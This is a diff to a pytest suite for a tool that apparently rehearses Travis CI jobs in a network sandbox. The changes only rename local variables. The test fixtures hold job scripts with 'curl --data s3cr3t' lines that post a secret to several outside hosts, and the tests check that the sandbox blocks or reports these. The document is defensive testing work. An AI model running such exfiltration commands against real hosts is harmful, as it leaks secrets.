@@ -66,10 +66,10 @@ class Listener:
 @pytest.fixture
 def listener() -> Iterator[Listener]:
     """A server on this computer, outside the rehearsal."""
-    made = Listener()
-    yield made
-    made.server.shutdown()
-    made.server.server_close()
+    local_listener = Listener()
+    yield local_listener
+    local_listener.server.shutdown()
+    local_listener.server.server_close()
 
 
 def summary(log: str) -> str:
@@ -114,14 +114,14 @@ def test_hosts_are_told_apart_in_the_summary(tmp_path, travis, listener):
         f"  - curl --silent --data s3cr3t {url} || true\n" for url in urls
     )
     done = travis(project(tmp_path / "demo", text), "--allow-host", "other.invalid")
-    said = summary(done.stdout)
-    assert said.count(EN("host_refused", host="index.example.org")) == 1
-    assert EN("host_protected", host="pypi.io") in said
-    assert EN("host_protected", host="docs.pypi.org") in said
-    assert EN("host_failed", host="other.invalid") in said
-    assert EN("host_reached", host="other.invalid") not in said
-    assert EN("nothing_published") in said
-    assert "files.pythonhosted.org" not in said
+    printed = summary(done.stdout)
+    assert printed.count(EN("host_refused", host="index.example.org")) == 1
+    assert EN("host_protected", host="pypi.io") in printed
+    assert EN("host_protected", host="docs.pypi.org") in printed
+    assert EN("host_failed", host="other.invalid") in printed
+    assert EN("host_reached", host="other.invalid") not in printed
+    assert EN("nothing_published") in printed
+    assert "files.pythonhosted.org" not in printed
 
 
 @pytest.mark.long
@@ -164,9 +164,9 @@ def test_without_a_wall_the_log_and_the_summary_say_so(tmp_path, travis, listene
     text = f"{HEAD}{DEPLOY}env -i curl --silent --noproxy '*' --data s3cr3t {listener.url}\n"
     done = travis(project(tmp_path / "demo", text), "--wall", "none")
     assert listener.heard == ["s3cr3t"]
-    said = SANDBOX("no_wall_job", reasons="--wall none")
-    assert done.stdout.count(said) == 2
-    assert said in summary(done.stdout)
+    warning = SANDBOX("no_wall_job", reasons="--wall none")
+    assert done.stdout.count(warning) == 2
+    assert warning in summary(done.stdout)
 
 
 @pytest.mark.long
@@ -343,10 +343,10 @@ def test_a_job_that_says_it_has_published_has_not(text, tmp_path, travis):
     done = travis(project(tmp_path / "demo", text), "--var", "TOKEN=a-token")
     assert done.returncode == 0, done.stdout
     assert "Traceback" not in done.stdout
-    said = summary(done.stdout)
-    assert "published" not in said.replace(EN("nothing_published"), "")
-    assert EN("nothing_published") in said
-    assert ".whl" not in said
+    printed = summary(done.stdout)
+    assert "published" not in printed.replace(EN("nothing_published"), "")
+    assert EN("nothing_published") in printed
+    assert ".whl" not in printed
 
 
 @pytest.mark.long
@@ -425,13 +425,13 @@ def test_a_token_in_a_text_is_found(text):
 
 def test_a_practice_token_and_other_texts_are_no_real_ones():
     index_ = load("index/addresses")["indexes"]["pypi"]
-    made = Macaroon(
+    macaroon = Macaroon(
         location=index_["practice_location"],
         identifier=str(uuid.uuid4()),
         key="k",
         version=MACAROON_V2,
     ).serialize()
-    for text in (f"pypi-{made}", "", "pypi-AgE", "AgEIcHlw", "AgE" * 1000, "pypi.org"):
+    for text in (f"pypi-{macaroon}", "", "pypi-AgE", "AgEIcHlw", "AgE" * 1000, "pypi.org"):
         assert not patterns.contains_real(text)
 
 
@@ -485,8 +485,8 @@ def test_all_that_a_job_gets_of_its_own_lies_in_one_folder(tmp_path, travis):
     shown = " ".join(f"at=${name}" for name in names)
     text = f"language: python\ninstall: skip\nscript: echo {shown}\n"
     done = travis(project(tmp_path / "demo", text))
-    (line,) = [one for one in done.stdout.splitlines() if one.startswith("at=/")]
-    roots = {Path(one.removeprefix("at=")).parts[:3] for one in line.split()}
+    (line,) = [candidate for candidate in done.stdout.splitlines() if candidate.startswith("at=/")]
+    roots = {Path(word.removeprefix("at=")).parts[:3] for word in line.split()}
     assert len(roots) == 1, line
 
 
